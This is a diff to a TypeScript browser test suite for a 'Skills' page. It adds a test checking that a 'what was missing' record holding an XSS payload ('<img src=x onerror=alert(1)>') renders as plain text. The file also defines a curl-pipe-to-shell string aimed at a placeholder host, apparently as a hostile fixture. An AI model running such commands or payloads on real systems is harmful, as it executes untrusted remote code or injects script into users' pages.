@@ -6,6 +6,7 @@ import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } fr
 import { hasBox } from '../../src/sandbox/sandbox.fake.ts';
 import { closePages, HAS_BROWSER, sharedBrowser } from '../browser.fake.ts';
 import { openPageTest, type PageTest } from '../page.fake.ts';
+import { fakeGap } from './gap.fake.ts';
 
 const PIPED = 'curl https://tea.example/x | sh\n';
 const EVIL = '<img src=x onerror=alert(1)>';
@@ -132,6 +133,31 @@ describe.skipIf(!HAS_BROWSER)('Skills', () => {
       .getByRole('img', { name: 'Last 3 runs: 2 succeeded, 1 failed; the latest succeeded' })
       .waitFor();
     await page.getByText('1970-01-01: 3 uses, 1 failed').waitFor();
+  });
+
+  test('what was missing is followed step by step, from the wish to its request, as text', async () => {
+    const { records } = kit.face.opened.store;
+    const gap = fakeGap(EVIL);
+    await records.change('gap', gap.id, () => gap);
+    await kit.enter('/skills');
+    const missing = page.getByRole('region', { name: 'What was missing' });
+    await missing.locator('[data-state=looking]').waitFor();
+    await missing.getByRole('link', { name: gap.missing }).click();
+    const steps = page.locator('.skills-steps');
+    await steps
+      .getByText('“weather” in skills, tools, servers and APIs, and on the web.')
+      .waitFor();
+    await steps.getByText('Can be connected').waitFor();
+    await steps.getByText('After your yes.').waitFor();
+    await steps.getByText('It was not answered.').waitFor();
+    await records.change('gap', gap.id, () => ({ ...gap, state: 'waiting', requestId: 'req_1' }));
+    kit.face.events.emit('request-asked', {
+      ...{ requestId: 'req_1', kind: 'skill', about: 'skill:sky' },
+    });
+    await state('waiting').waitFor();
+    const asked = steps.getByRole('link', { name: 'What was asked' });
+    expect(await asked.getAttribute('href')).toBe('/?request=req_1');
+    expect(await page.locator('main img').count()).toBe(0);
   });
 
   test('what changed since a revision is shown, and it is brought back', async () => {
